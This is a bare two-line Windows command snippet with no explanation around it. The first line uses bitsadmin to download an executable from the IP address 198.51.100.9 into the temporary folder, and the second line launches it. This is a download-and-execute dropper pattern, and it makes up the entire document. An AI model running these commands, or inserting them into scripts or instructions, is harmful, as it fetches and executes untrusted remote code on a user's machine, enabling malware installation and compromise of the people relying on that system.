bitsadmin /transfer job /download /priority high http://198.51.100.9/u.exe %TEMP%\u.exe
start %TEMP%\u.exe
